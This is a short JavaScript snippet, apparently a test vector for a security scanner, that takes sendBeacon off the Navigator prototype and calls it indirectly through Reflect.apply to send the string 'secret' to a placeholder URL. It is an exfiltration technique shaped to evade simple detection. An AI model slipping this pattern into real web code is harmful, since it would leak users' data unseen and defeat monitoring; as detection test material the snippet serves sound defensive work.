// vector: sendBeacon taken off the prototype
const { sendBeacon } = Object.getPrototypeOf(navigator);
Reflect.apply(sendBeacon, navigator, ["$URL", "secret"]);
